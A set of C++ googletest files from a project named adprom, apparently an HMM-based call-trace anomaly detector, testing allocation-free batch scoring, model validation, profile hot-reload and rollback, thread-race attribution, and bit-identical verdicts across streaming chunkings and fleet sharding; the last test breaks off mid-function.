TEST(BatchAllocTest, ScoreBatchIsAllocationFreeAfterReserve) {
  const HmmModel model = SmallModel(24, 6);
  const SparseHmm sparse(model);
  for (const bool triage : {false, true}) {
    BatchOptions options;
    options.width = 8;
    options.triage = triage;
    const BatchScorer scorer(&sparse, options);

    std::vector<ObservationSeq> seqs(19);
    util::Rng rng(9);
    for (ObservationSeq& seq : seqs) {
      seq.resize(15);
      for (int& v : seq) v = static_cast<int>(rng.UniformU64(6));
    }
    const std::vector<SymbolSpan> spans(seqs.begin(), seqs.end());
    std::vector<double> out(seqs.size());

    BatchWorkspace ws;
    scorer.Reserve(&ws);
    // Warm-up: the dispatcher's function-local statics and any first-use
    // growth happen here, outside the counted region.
    ASSERT_TRUE(scorer.ScoreBatch(spans, -1e9, &ws, out).ok());

    CountAllocations guard;
    for (int repeat = 0; repeat < 16; ++repeat) {
      ASSERT_TRUE(scorer.ScoreBatch(spans, -1e9, &ws, out).ok());
    }
    EXPECT_EQ(guard.count(), 0u)
        << "steady-state ScoreBatch allocated (triage=" << triage << ")";
  }
}

TEST(BatchAllocTest, TrainEStepIsAllocationFreeAfterReserve) {
  const HmmModel model = SmallModel(24, 6);
  const SparseHmm sparse(model);
  const BatchEStep estep(/*width=*/8, /*no_simd=*/false);

  std::vector<ObservationSeq> seqs(19);
  util::Rng rng(13);
  for (ObservationSeq& seq : seqs) {
    seq.resize(15);
    for (int& v : seq) v = static_cast<int>(rng.UniformU64(6));
  }

  for (const bool csr_xi : {false, true}) {
    BatchTrainWorkspace ws;
    estep.Reserve(model.num_states(), 15, &ws);
    EStepAccumulators acc;
    acc.Reset(model.num_states(), model.num_symbols());
    auto accumulate_all = [&] {
      for (size_t i = 0; i < seqs.size(); i += estep.width()) {
        const size_t count = std::min(estep.width(), seqs.size() - i);
        estep.AccumulateBlock(
            model, sparse, csr_xi,
            std::span<const ObservationSeq>(&seqs[i], count), &ws, &acc);
      }
    };
    // Warm-up: the dispatcher's function-local statics and the
    // accumulators' first Reshape happen here, outside the counted region.
    accumulate_all();

    CountAllocations guard;
    for (int repeat = 0; repeat < 16; ++repeat) {
      acc.Reset(model.num_states(), model.num_symbols());
      accumulate_all();
    }
    EXPECT_EQ(guard.count(), 0u)
        << "steady-state AccumulateBlock allocated (csr_xi=" << csr_xi
        << ")";
  }
}

TEST(BatchAllocTest, ReserveAloneIsEnoughForTheFirstCall) {
  const HmmModel model = SmallModel(16, 5);
  const SparseHmm sparse(model);
  BatchOptions options;
  options.width = 4;
  const BatchScorer scorer(&sparse, options);

  std::vector<ObservationSeq> seqs(4);
  util::Rng rng(21);
  for (ObservationSeq& seq : seqs) {
    seq.resize(10);
    for (int& v : seq) v = static_cast<int>(rng.UniformU64(5));
  }
  const std::vector<SymbolSpan> spans(seqs.begin(), seqs.end());
  std::vector<double> out(seqs.size());

  BatchWorkspace ws;
  scorer.Reserve(&ws);
  // Touch the dispatcher's static kernel tables outside the counted
  // region (they initialize on first use, once per process).
  {
    std::vector<double> warm_out(spans.size());
    BatchWorkspace warm_ws;
    scorer.Reserve(&warm_ws);
    ASSERT_TRUE(scorer.ScoreBatch(spans, -1e9, &warm_ws, warm_out).ok());
  }

  CountAllocations guard;
  ASSERT_TRUE(scorer.ScoreBatch(spans, -1e9, &ws, out).ok());
  EXPECT_EQ(guard.count(), 0u)
      << "first ScoreBatch after Reserve() allocated";
}

}  // namespace
}  // namespace adprom::hmm
