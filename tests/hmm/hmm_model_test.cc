#include "hmm/hmm_model.h"

#include <gtest/gtest.h>

namespace adprom::hmm {
namespace {

HmmModel TwoStateModel() {
  util::Matrix a = util::Matrix::FromRows({{0.7, 0.3}, {0.4, 0.6}});
  util::Matrix b = util::Matrix::FromRows({{0.9, 0.1}, {0.2, 0.8}});
  return HmmModel(std::move(a), std::move(b), {0.6, 0.4});
}

TEST(HmmModelTest, ValidModelPasses) {
  EXPECT_TRUE(TwoStateModel().Validate().ok());
}

TEST(HmmModelTest, DimensionsChecked) {
  util::Matrix a(2, 3);
  util::Matrix b(2, 2);
  HmmModel bad(std::move(a), std::move(b), {0.5, 0.5});
  EXPECT_FALSE(bad.Validate().ok());

  HmmModel wrong_pi(util::Matrix::Identity(2),
                    util::Matrix::FromRows({{1, 0}, {0, 1}}), {1.0});
  EXPECT_FALSE(wrong_pi.Validate().ok());
}

TEST(HmmModelTest, NonStochasticRowFails) {
  util::Matrix a = util::Matrix::FromRows({{0.5, 0.1}, {0.4, 0.6}});
  util::Matrix b = util::Matrix::FromRows({{1, 0}, {0, 1}});
  HmmModel model(std::move(a), std::move(b), {0.5, 0.5});
  EXPECT_FALSE(model.Validate().ok());
}

TEST(HmmModelTest, NegativeEntryFails) {
  util::Matrix a = util::Matrix::FromRows({{1.2, -0.2}, {0.5, 0.5}});
  util::Matrix b = util::Matrix::FromRows({{1, 0}, {0, 1}});
  HmmModel model(std::move(a), std::move(b), {0.5, 0.5});
  EXPECT_FALSE(model.Validate().ok());
}

TEST(HmmModelTest, RandomModelIsStochastic) {
  util::Rng rng(17);
  const HmmModel model = HmmModel::Random(5, 7, rng);
  EXPECT_EQ(model.num_states(), 5u);
  EXPECT_EQ(model.num_symbols(), 7u);
  EXPECT_TRUE(model.Validate().ok());
}

TEST(HmmModelTest, SmoothRemovesZerosAndStaysStochastic) {
  util::Matrix a = util::Matrix::FromRows({{1.0, 0.0}, {0.0, 1.0}});
  util::Matrix b = util::Matrix::FromRows({{1.0, 0.0}, {0.0, 1.0}});
  HmmModel model(std::move(a), std::move(b), {1.0, 0.0});
  model.Smooth(0.01);
  EXPECT_TRUE(model.Validate().ok());
  EXPECT_GT(model.a().At(0, 1), 0.0);
  EXPECT_GT(model.b().At(1, 0), 0.0);
  EXPECT_GT(model.pi()[1], 0.0);
}

}  // namespace
}  // namespace adprom::hmm
