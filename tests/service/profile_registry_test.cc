// ProfileRegistry unit tests: generation minting, hot reload with
// rollback on parse/validation failure, directory loading with
// deterministic tenant naming, and the pin-survives-remove contract that
// keeps live sessions attributable to exactly one profile generation.

#include <gtest/gtest.h>

#include <cmath>
#include <filesystem>
#include <fstream>
#include <string>

#include "core/profile.h"
#include "hmm/hmm_model.h"
#include "service/profile_registry.h"
#include "util/matrix.h"

namespace adprom::service {
namespace {

core::ApplicationProfile TinyProfile(double threshold = -100.0) {
  core::ApplicationProfile profile;
  profile.options.window_length = 3;
  profile.options.use_dd_labels = false;
  profile.alphabet.Intern("print");
  profile.alphabet.Intern("scan");
  profile.model = hmm::HmmModel(
      util::Matrix::FromRows({{0.75, 0.25}, {0.5, 0.5}}),
      util::Matrix::FromRows({{0.25, 0.5, 0.25}, {0.5, 0.25, 0.25}}),
      {0.5, 0.5});
  profile.threshold = threshold;
  return profile;
}

std::string TempDir(const std::string& name) {
  const std::string dir = ::testing::TempDir() + "/" + name;
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  return dir;
}

void WriteFile(const std::string& path, const std::string& content) {
  std::ofstream out(path, std::ios::binary);
  ASSERT_TRUE(out.good()) << path;
  out << content;
}

TEST(ProfileRegistryTest, InstallMintsMonotoneGenerations) {
  ProfileRegistry registry;
  EXPECT_EQ(registry.Generation("app"), 0u);
  EXPECT_EQ(registry.Get("app"), nullptr);

  ASSERT_TRUE(registry.Install("app", TinyProfile(), "v1").ok());
  auto first = registry.Get("app");
  ASSERT_NE(first, nullptr);
  EXPECT_EQ(first->tenant(), "app");
  EXPECT_EQ(first->version(), "v1");
  EXPECT_EQ(first->generation(), 1u);
  EXPECT_EQ(registry.Generation("app"), 1u);

  ASSERT_TRUE(registry.Install("app", TinyProfile(-50.0), "v2").ok());
  auto second = registry.Get("app");
  ASSERT_NE(second, nullptr);
  EXPECT_EQ(second->generation(), 2u);
  EXPECT_EQ(second->profile().threshold, -50.0);
  // The old handle is untouched: sessions pinned to it keep scoring
  // against the original threshold and generation.
  EXPECT_EQ(first->generation(), 1u);
  EXPECT_EQ(first->profile().threshold, -100.0);
  EXPECT_EQ(registry.size(), 1u);
}

TEST(ProfileRegistryTest, InstallValidatesProfiles) {
  ProfileRegistry registry;
  core::ApplicationProfile bad_window = TinyProfile();
  bad_window.options.window_length = 1;
  EXPECT_FALSE(registry.Install("app", bad_window).ok());

  core::ApplicationProfile bad_threshold = TinyProfile();
  bad_threshold.threshold = std::nan("");
  EXPECT_FALSE(registry.Install("app", bad_threshold).ok());

  // Nothing was installed by the failed attempts.
  EXPECT_EQ(registry.Get("app"), nullptr);
  EXPECT_EQ(registry.Generation("app"), 0u);
}

TEST(ProfileRegistryTest, ReloadRollsBackOnFailure) {
  ProfileRegistry registry;
  ASSERT_TRUE(registry.Reload("app", TinyProfile().Serialize(), "v1").ok());
  auto live = registry.Get("app");
  ASSERT_NE(live, nullptr);
  EXPECT_EQ(live->generation(), 1u);
  EXPECT_TRUE(registry.last_error("app").empty());

  // A corrupt upload must not disturb the serving version and must not
  // mint a generation; the diagnostic is remembered for the operator.
  const util::Status bad = registry.Reload("app", "not a profile", "v2");
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.ToString().find("previous version stays live"),
            std::string::npos)
      << bad.ToString();
  EXPECT_EQ(registry.Get("app"), live);
  EXPECT_EQ(registry.Generation("app"), 1u);
  EXPECT_FALSE(registry.last_error("app").empty());

  // An invalid-but-parseable upload rolls back the same way.
  core::ApplicationProfile invalid = TinyProfile();
  invalid.options.window_length = 0;
  EXPECT_FALSE(registry.Reload("app", invalid.Serialize(), "v3").ok());
  EXPECT_EQ(registry.Get("app"), live);
  EXPECT_EQ(registry.Generation("app"), 1u);

  // The next good reload clears the error and mints generation 2.
  ASSERT_TRUE(registry.Reload("app", TinyProfile(-5.0).Serialize(),
                              "v4").ok());
  EXPECT_EQ(registry.Generation("app"), 2u);
  EXPECT_TRUE(registry.last_error("app").empty());
}

TEST(ProfileRegistryTest, RemoveKeepsGenerationsMonotone) {
  ProfileRegistry registry;
  ASSERT_TRUE(registry.Install("app", TinyProfile()).ok());
  ASSERT_TRUE(registry.Install("app", TinyProfile()).ok());
  EXPECT_EQ(registry.Generation("app"), 2u);

  EXPECT_TRUE(registry.Remove("app"));
  EXPECT_FALSE(registry.Remove("app"));  // already gone
  EXPECT_EQ(registry.Get("app"), nullptr);

  // Re-installing after a remove must NOT reuse generation 1: a closed
  // session that reported generation <= 2 stays unambiguous forever.
  ASSERT_TRUE(registry.Install("app", TinyProfile()).ok());
  EXPECT_EQ(registry.Generation("app"), 3u);
}

TEST(ProfileRegistryTest, LoadDirectoryNamesTenantsByFileStem) {
  const std::string dir = TempDir("registry_load");
  WriteFile(dir + "/billing.profile", TinyProfile().Serialize());
  WriteFile(dir + "/crm.profile", TinyProfile(-42.0).Serialize());
  WriteFile(dir + "/README.txt", "not a profile");  // ignored

  ProfileRegistry registry;
  auto loaded = registry.LoadDirectory(dir);
  ASSERT_TRUE(loaded.ok()) << loaded.status().ToString();
  EXPECT_EQ(*loaded, 2u);
  EXPECT_EQ(registry.size(), 2u);
  ASSERT_NE(registry.Get("billing"), nullptr);
  ASSERT_NE(registry.Get("crm"), nullptr);
  EXPECT_EQ(registry.Get("crm")->profile().threshold, -42.0);
  EXPECT_EQ(registry.Get("billing")->version(), dir + "/billing.profile");
  EXPECT_EQ(registry.Tenants(),
            (std::vector<std::string>{"billing", "crm"}));
  std::filesystem::remove_all(dir);
}

TEST(ProfileRegistryTest, LoadDirectoryFailures) {
  ProfileRegistry registry;
  EXPECT_FALSE(registry.LoadDirectory("/no/such/dir").ok());

  const std::string empty = TempDir("registry_empty");
  EXPECT_FALSE(registry.LoadDirectory(empty).ok());  // no *.profile files

  // One corrupt file fails the call; the good file loaded before it (by
  // sorted order) stays installed — per-tenant swaps are independent.
  const std::string mixed = TempDir("registry_mixed");
  WriteFile(mixed + "/aaa.profile", TinyProfile().Serialize());
  WriteFile(mixed + "/bbb.profile", "garbage");
  EXPECT_FALSE(registry.LoadDirectory(mixed).ok());
  EXPECT_NE(registry.Get("aaa"), nullptr);
  EXPECT_EQ(registry.Get("bbb"), nullptr);
  std::filesystem::remove_all(empty);
  std::filesystem::remove_all(mixed);
}

TEST(ProfileRegistryTest, HandleEngineSharesProfileCompilation) {
  ProfileRegistry registry;
  ASSERT_TRUE(registry.Install("app", TinyProfile()).ok());
  auto handle = registry.Get("app");
  ASSERT_NE(handle, nullptr);
  // The handle's engine is compiled against the handle's own profile copy
  // and both live exactly as long as the shared_ptr.
  EXPECT_EQ(handle->profile().options.window_length, 3u);
  registry.Remove("app");
  // Still alive: <unk> plus the two interned call symbols.
  EXPECT_EQ(handle->profile().alphabet.size(), 3u);
}

}  // namespace
}  // namespace adprom::service
