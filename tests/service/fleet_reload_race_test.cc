// Hot-reload race test (runs under TSan in CI): one thread hammers
// ProfileRegistry::Reload, flipping the tenant's profile between two
// versions with opposite thresholds, while producer threads open, feed,
// and close sessions on every shard. TSan checks for torn reads on the
// handle swap; the assertions check attribution — every session reports
// exactly one profile generation, and its verdicts match that
// generation's threshold exactly (never a mix of old and new behaviour).

#include <gtest/gtest.h>

#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "core/profile.h"
#include "hmm/hmm_model.h"
#include "service/alert_sink.h"
#include "service/fleet_node.h"
#include "service/profile_registry.h"
#include "util/matrix.h"
#include "util/thread_pool.h"

namespace adprom::service {
namespace {

/// Window-3 profile over {print, scan}. The two deployed versions differ
/// only in threshold sign: -1000 never alarms, +1000 always alarms (the
/// tiny model's window log-likelihoods are a few nats below zero), so a
/// session's alarm pattern reveals which version actually scored it.
core::ApplicationProfile VersionedProfile(double threshold) {
  core::ApplicationProfile profile;
  profile.options.window_length = 3;
  profile.options.use_dd_labels = false;
  profile.alphabet.Intern("print");
  profile.alphabet.Intern("scan");
  profile.context_pairs = {{"main", "print"}, {"main", "scan"}};
  profile.model = hmm::HmmModel(
      util::Matrix::FromRows({{0.75, 0.25}, {0.5, 0.5}}),
      util::Matrix::FromRows({{0.25, 0.5, 0.25}, {0.5, 0.25, 0.25}}),
      {0.5, 0.5});
  profile.threshold = threshold;
  return profile;
}

runtime::CallEvent Event(int i) {
  runtime::CallEvent event;
  event.callee = (i % 2 == 0) ? "print" : "scan";
  event.caller = "main";
  event.block_id = i;
  event.call_site_id = i;
  return event;
}

TEST(FleetReloadRaceTest, EveryVerdictAttributableToOneGeneration) {
  // Generation numbering: the initial install is generation 1 with
  // threshold -1000; each successful reload alternates the sign, so odd
  // generations never alarm and even generations always do.
  ProfileRegistry registry;
  ASSERT_TRUE(registry.Install("app", VersionedProfile(-1000.0), "g1").ok());

  util::ThreadPool pool(2);
  CollectingAlertSink sink;
  FleetOptions options;
  options.num_shards = 4;
  FleetNode fleet(&registry, &sink, &pool, options);

  constexpr int kProducers = 3;
  constexpr int kSessionsPerProducer = 40;
  constexpr int kEventsPerSession = 6;  // two full windows past warmup

  std::atomic<bool> stop{false};
  std::thread reloader([&] {
    uint64_t flips = 0;
    while (!stop.load(std::memory_order_relaxed)) {
      // Odd installs were negative, so the next (even) one is positive.
      const double threshold = (flips % 2 == 0) ? 1000.0 : -1000.0;
      ASSERT_TRUE(registry
                      .Reload("app",
                              VersionedProfile(threshold).Serialize(),
                              "flip-" + std::to_string(flips))
                      .ok());
      ++flips;
      std::this_thread::yield();
    }
  });

  std::vector<std::thread> producers;
  producers.reserve(kProducers);
  for (int p = 0; p < kProducers; ++p) {
    producers.emplace_back([&fleet, p] {
      for (int s = 0; s < kSessionsPerProducer; ++s) {
        const std::string session =
            "p" + std::to_string(p) + "-s" + std::to_string(s);
        for (int e = 0; e < kEventsPerSession; ++e) {
          ASSERT_TRUE(fleet.Submit("app", session, Event(e)).ok());
        }
        ASSERT_TRUE(fleet.CloseSession("app", session).ok());
      }
    });
  }
  for (std::thread& producer : producers) producer.join();
  stop.store(true);
  reloader.join();
  fleet.CloseAll();

  const uint64_t final_generation = registry.Generation("app");
  ASSERT_GE(final_generation, 1u);
  size_t sessions_checked = 0;
  for (int p = 0; p < kProducers; ++p) {
    for (int s = 0; s < kSessionsPerProducer; ++s) {
      const std::string id = "app/p" + std::to_string(p) + "-s" +
                             std::to_string(s);
      const SessionStats stats = sink.StatsFor(id);
      ASSERT_EQ(stats.events_accepted,
                static_cast<size_t>(kEventsPerSession))
          << id;
      EXPECT_EQ(stats.events_scored,
                static_cast<size_t>(kEventsPerSession))
          << id;
      // 6 events, window 3 -> exactly 4 verdicts, whichever version.
      ASSERT_EQ(stats.verdicts, 4u) << id;
      // The pinned generation is a real one...
      ASSERT_GE(stats.profile_generation, 1u) << id;
      ASSERT_LE(stats.profile_generation, final_generation) << id;
      // ...and ALL the session's verdicts obey that generation's
      // threshold: a torn or mid-session swap would mix alarm patterns.
      if (stats.profile_generation % 2 == 1) {
        EXPECT_EQ(stats.alarms, 0u)
            << id << " generation " << stats.profile_generation;
      } else {
        EXPECT_EQ(stats.alarms, stats.verdicts)
            << id << " generation " << stats.profile_generation;
      }
      for (const core::Detection& verdict : sink.DetectionsFor(id)) {
        EXPECT_EQ(verdict.IsAlarm(), stats.profile_generation % 2 == 0)
            << id;
      }
      ++sessions_checked;
    }
  }
  EXPECT_EQ(sessions_checked,
            static_cast<size_t>(kProducers * kSessionsPerProducer));
  EXPECT_EQ(fleet.total_dropped(), 0u);
}

TEST(FleetReloadRaceTest, PinnedHandleOutlivesRemoveDuringScoring) {
  // Remove the tenant while its sessions still hold the handle: scoring
  // in flight keeps working (the shared_ptr pins profile + engine), only
  // NEW submits fail closed.
  ProfileRegistry registry;
  ASSERT_TRUE(registry.Install("app", VersionedProfile(-1000.0)).ok());
  util::ThreadPool pool(2);
  CollectingAlertSink sink;
  FleetNode fleet(&registry, &sink, &pool);

  for (int e = 0; e < 4; ++e) {
    ASSERT_TRUE(fleet.Submit("app", "s", Event(e)).ok());
  }
  registry.Remove("app");
  EXPECT_FALSE(fleet.Submit("app", "s", Event(4)).ok());
  ASSERT_TRUE(fleet.CloseSession("app", "s").ok());

  const SessionStats stats = sink.StatsFor("app/s");
  EXPECT_EQ(stats.events_accepted, 4u);
  EXPECT_EQ(stats.events_scored, 4u);
  EXPECT_EQ(stats.verdicts, 2u);  // windows 0 and 1
  EXPECT_EQ(stats.profile_generation, 1u);
}

}  // namespace
}  // namespace adprom::service
