// Micro-batch streaming differential suite: StreamingMonitor::OnEvents
// must emit, for ANY chunking of the event stream, exactly the verdicts
// OnEvent emits per event — which are themselves bit-identical to
// DetectionEngine::MonitorTrace. The chunk boundaries decide only how many
// windows score per vectorized block, never what any window scores.

#include <gtest/gtest.h>

#include <algorithm>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "apps/corpus.h"
#include "core/adprom.h"
#include "core/detection_engine.h"
#include "service/streaming_monitor.h"

namespace adprom::service {
namespace {

using core::Detection;

void ExpectSameDetections(const std::vector<Detection>& expected,
                          const std::vector<Detection>& actual,
                          const std::string& label) {
  ASSERT_EQ(expected.size(), actual.size()) << label;
  for (size_t i = 0; i < expected.size(); ++i) {
    const Detection& e = expected[i];
    const Detection& a = actual[i];
    EXPECT_EQ(e.flag, a.flag) << label << " window " << i;
    EXPECT_EQ(e.score, a.score) << label << " window " << i;
    EXPECT_EQ(e.window_start, a.window_start) << label << " window " << i;
    EXPECT_EQ(e.source_tables, a.source_tables) << label << " window " << i;
    EXPECT_EQ(e.detail, a.detail) << label << " window " << i;
  }
}

/// Feeds `trace` through OnEvents in chunks of `chunk` events.
std::vector<Detection> StreamChunked(const core::ApplicationProfile& profile,
                                     const runtime::Trace& trace,
                                     size_t chunk) {
  StreamingMonitor monitor(&profile);
  std::vector<Detection> out;
  for (size_t base = 0; base < trace.size(); base += chunk) {
    const size_t take = std::min(chunk, trace.size() - base);
    std::vector<runtime::CallEvent> batch(trace.begin() + base,
                                          trace.begin() + base + take);
    for (Detection& verdict : monitor.OnEvents(batch)) {
      out.push_back(std::move(verdict));
    }
  }
  std::optional<Detection> last = monitor.Finish();
  if (last.has_value()) out.push_back(*last);
  return out;
}

std::vector<Detection> StreamPerEvent(
    const core::ApplicationProfile& profile, const runtime::Trace& trace) {
  StreamingMonitor monitor(&profile);
  std::vector<Detection> out;
  for (const runtime::CallEvent& event : trace) {
    std::optional<Detection> verdict = monitor.OnEvent(event);
    if (verdict.has_value()) out.push_back(*verdict);
  }
  std::optional<Detection> last = monitor.Finish();
  if (last.has_value()) out.push_back(*last);
  return out;
}

class StreamingBatchTest : public ::testing::Test {
 protected:
  static const core::AdProm& Trained() {
    static const core::AdProm* system = [] {
      const apps::CorpusApp app = apps::MakeBankingApp();
      auto program = prog::ParseProgram(app.source);
      EXPECT_TRUE(program.ok());
      core::ProfileOptions options;
      options.max_training_windows = 200;
      options.train.max_iterations = 5;
      auto trained = core::AdProm::Train(*program, app.db_factory,
                                         app.test_cases, options);
      EXPECT_TRUE(trained.ok()) << trained.status().ToString();
      return new core::AdProm(std::move(trained).value());
    }();
    return *system;
  }
};

TEST_F(StreamingBatchTest, AnyChunkingMatchesPerEventStreaming) {
  const core::ApplicationProfile& profile = Trained().profile();
  const std::vector<runtime::Trace>& traces = Trained().training_traces();
  ASSERT_FALSE(traces.empty());
  for (size_t i = 0; i < traces.size(); ++i) {
    const std::vector<Detection> expected =
        StreamPerEvent(profile, traces[i]);
    // 1 = degenerate micro-batch; 7 = smaller than a window; 64 = the
    // SessionManager default batch_size; huge = whole trace in one call.
    for (const size_t chunk : {size_t{1}, size_t{7}, size_t{64},
                               traces[i].size() + 1}) {
      ExpectSameDetections(expected,
                           StreamChunked(profile, traces[i], chunk),
                           "trace " + std::to_string(i) + " chunk " +
                               std::to_string(chunk));
    }
  }
}

TEST_F(StreamingBatchTest, ChunkedStreamingMatchesBatchMonitorTrace) {
  const core::ApplicationProfile& profile = Trained().profile();
  const core::DetectionEngine engine(&profile);
  const std::vector<runtime::Trace>& traces = Trained().training_traces();
  for (size_t i = 0; i < traces.size(); ++i) {
    ExpectSameDetections(engine.MonitorTrace(traces[i]),
                         StreamChunked(profile, traces[i], 64),
                         "trace " + std::to_string(i));
  }
}

TEST_F(StreamingBatchTest, TriageStreamingKeepsFlagsIdentical) {
  core::ApplicationProfile profile = Trained().profile();
  profile.options.triage = true;
  const core::ApplicationProfile& exact = Trained().profile();
  const std::vector<runtime::Trace>& traces = Trained().training_traces();
  for (size_t i = 0; i < traces.size(); ++i) {
    const std::vector<Detection> expected = StreamPerEvent(exact, traces[i]);
    const std::vector<Detection> got =
        StreamChunked(profile, traces[i], 64);
    ASSERT_EQ(expected.size(), got.size()) << "trace " << i;
    for (size_t w = 0; w < expected.size(); ++w) {
      EXPECT_EQ(expected[w].flag, got[w].flag)
          << "trace " << i << " window " << w;
      EXPECT_LE(got[w].score, expected[w].score)
          << "trace " << i << " window " << w;
    }
  }
}

}  // namespace
}  // namespace adprom::service
