// Corpus-wide multi-tenant differential suite: several corpus apps are
// installed as tenants of one FleetNode and all their recorded traces are
// interleaved through it as concurrent sessions. For every shard count in
// {1, 2, 8} crossed with every pool size in {0, 1, 4}, each session's
// verdict stream must be bit-identical to single-profile
// DetectionEngine::MonitorTrace over that session's trace — sharding and
// scheduling may only change interleaving, never verdicts.

#include <gtest/gtest.h>

#include <memory>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "apps/corpus.h"
#include "core/adprom.h"
#include "core/detection_engine.h"
#include "service/alert_sink.h"
#include "service/fleet_node.h"
#include "service/profile_registry.h"
#include "util/thread_pool.h"

namespace adprom::service {
namespace {

using core::Detection;

void ExpectSameDetections(const std::vector<Detection>& expected,
                          const std::vector<Detection>& actual,
                          const std::string& label) {
  ASSERT_EQ(expected.size(), actual.size()) << label;
  for (size_t i = 0; i < expected.size(); ++i) {
    const Detection& e = expected[i];
    const Detection& a = actual[i];
    EXPECT_EQ(e.flag, a.flag) << label << " window " << i;
    EXPECT_EQ(e.score, a.score) << label << " window " << i;
    EXPECT_EQ(e.window_start, a.window_start) << label << " window " << i;
    EXPECT_EQ(e.source_tables, a.source_tables) << label << " window " << i;
    EXPECT_EQ(e.detail, a.detail) << label << " window " << i;
  }
}

struct Tenant {
  std::string name;
  core::ApplicationProfile profile;
  std::vector<runtime::Trace> traces;
  std::vector<std::vector<Detection>> expected;  // per trace, MonitorTrace
};

/// Four differently-shaped corpus apps (interactive clients + SIR-style
/// tools), trained once per process with bounded iterations; the
/// bit-identity claim is size-independent so a small slice of the corpus
/// keeps the {shards} x {pools} sweep affordable.
const std::vector<Tenant>& Tenants() {
  static const std::vector<Tenant>* tenants = [] {
    auto* out = new std::vector<Tenant>();
    const apps::CorpusApp sources[] = {
        apps::MakeHospitalApp(), apps::MakeBankingApp(),
        apps::MakeGrepLike(12, 1), apps::MakeBashLike(25, 8, 4)};
    for (const apps::CorpusApp& app : sources) {
      auto program = prog::ParseProgram(app.source);
      EXPECT_TRUE(program.ok()) << app.name;
      core::ProfileOptions options;
      options.max_training_windows = 200;
      options.train.max_iterations = 5;
      auto system = core::AdProm::Train(*program, app.db_factory,
                                        app.test_cases, options);
      EXPECT_TRUE(system.ok())
          << app.name << ": " << system.status().ToString();
      if (!system.ok()) continue;
      Tenant tenant;
      tenant.name = app.name;
      tenant.profile = system->profile();
      tenant.traces = system->training_traces();
      const core::DetectionEngine engine(&tenant.profile);
      for (const runtime::Trace& trace : tenant.traces) {
        tenant.expected.push_back(engine.MonitorTrace(trace));
      }
      out->push_back(std::move(tenant));
    }
    return out;
  }();
  return *tenants;
}

class FleetDifferentialTest
    : public ::testing::TestWithParam<std::tuple<size_t, size_t>> {};

TEST_P(FleetDifferentialTest, VerdictsMatchMonitorTraceBitForBit) {
  const size_t shards = std::get<0>(GetParam());
  const size_t workers = std::get<1>(GetParam());
  const std::vector<Tenant>& tenants = Tenants();
  ASSERT_FALSE(tenants.empty());

  ProfileRegistry registry;
  for (const Tenant& tenant : tenants) {
    ASSERT_TRUE(registry.Install(tenant.name, tenant.profile).ok());
  }
  std::optional<util::ThreadPool> pool;
  if (workers > 0) pool.emplace(workers);
  CollectingAlertSink sink;
  FleetOptions options;
  options.num_shards = shards;
  FleetNode fleet(&registry, &sink, pool.has_value() ? &*pool : nullptr,
                  options);
  ASSERT_EQ(fleet.num_shards(), shards);

  // Interleave every tenant's every trace round-robin so sessions of all
  // tenants are concurrently live on all shards.
  size_t remaining = 0;
  for (const Tenant& tenant : tenants) {
    for (const runtime::Trace& trace : tenant.traces) {
      remaining += trace.size();
    }
  }
  for (size_t offset = 0; remaining > 0; ++offset) {
    for (const Tenant& tenant : tenants) {
      for (size_t i = 0; i < tenant.traces.size(); ++i) {
        if (offset >= tenant.traces[i].size()) continue;
        ASSERT_TRUE(fleet
                        .Submit(tenant.name, "t" + std::to_string(i),
                                tenant.traces[i][offset])
                        .ok());
        --remaining;
      }
    }
  }
  fleet.CloseAll();

  for (const Tenant& tenant : tenants) {
    for (size_t i = 0; i < tenant.traces.size(); ++i) {
      const std::string id = tenant.name + "/t" + std::to_string(i);
      const std::string label =
          id + " shards=" + std::to_string(shards) +
          " workers=" + std::to_string(workers);
      ExpectSameDetections(tenant.expected[i], sink.DetectionsFor(id),
                           label);
      const SessionStats stats = sink.StatsFor(id);
      EXPECT_EQ(stats.events_accepted, tenant.traces[i].size()) << label;
      EXPECT_EQ(stats.events_scored, tenant.traces[i].size()) << label;
      EXPECT_EQ(stats.dropped_events, 0u) << label;
      EXPECT_EQ(stats.verdicts, tenant.expected[i].size()) << label;
      EXPECT_EQ(stats.profile_generation, 1u) << label;
    }
  }
  EXPECT_EQ(fleet.total_dropped(), 0u);

  // Per-tenant accounting reconciles with what the sink observed.
  const FleetMetrics metrics = fleet.Metrics();
  ASSERT_EQ(metrics.shards.size(), shards);
  uint64_t shard_submitted = 0;
  for (const ShardMetrics& shard : metrics.shards) {
    shard_submitted += shard.submitted;
    EXPECT_EQ(shard.submitted, shard.scored);
    EXPECT_EQ(shard.dropped, 0u);
    EXPECT_EQ(shard.queue_depth, 0u);
  }
  uint64_t tenant_submitted = 0;
  for (const TenantMetrics& tenant : metrics.tenants) {
    tenant_submitted += tenant.submitted;
    EXPECT_EQ(tenant.submitted, tenant.scored) << tenant.tenant;
    EXPECT_EQ(tenant.sessions_opened, tenant.sessions_closed)
        << tenant.tenant;
  }
  EXPECT_EQ(shard_submitted, tenant_submitted);
}

TEST(FleetNodeTest, ShardingIsStableAndCoversAllShards) {
  ProfileRegistry registry;
  const std::vector<Tenant>& tenants = Tenants();
  ASSERT_FALSE(tenants.empty());
  ASSERT_TRUE(registry.Install("app", tenants[0].profile).ok());
  CollectingAlertSink sink;
  FleetOptions options;
  options.num_shards = 8;
  FleetNode fleet(&registry, &sink, nullptr, options);

  std::set<size_t> hit;
  for (int i = 0; i < 256; ++i) {
    const std::string session = "session-" + std::to_string(i);
    const size_t shard = fleet.ShardIndex("app", session);
    EXPECT_LT(shard, 8u);
    EXPECT_EQ(shard, fleet.ShardIndex("app", session));  // stable
    hit.insert(shard);
  }
  EXPECT_EQ(hit.size(), 8u) << "256 sessions must cover all 8 shards";
}

TEST(FleetNodeTest, UnknownTenantFailsClosed) {
  ProfileRegistry registry;
  const std::vector<Tenant>& tenants = Tenants();
  ASSERT_FALSE(tenants.empty());
  ASSERT_TRUE(registry.Install("known", tenants[0].profile).ok());
  CollectingAlertSink sink;
  FleetNode fleet(&registry, &sink, nullptr);

  runtime::CallEvent event;
  event.callee = "print";
  const util::Status status = fleet.Submit("ghost", "s1", event);
  ASSERT_FALSE(status.ok());
  EXPECT_EQ(status.code(), util::StatusCode::kNotFound);
  EXPECT_NE(status.ToString().find("ghost"), std::string::npos);
  // Nothing was scored, opened, or attributed anywhere.
  EXPECT_EQ(fleet.num_sessions(), 0u);

  // Removing a tenant stops new events the same way.
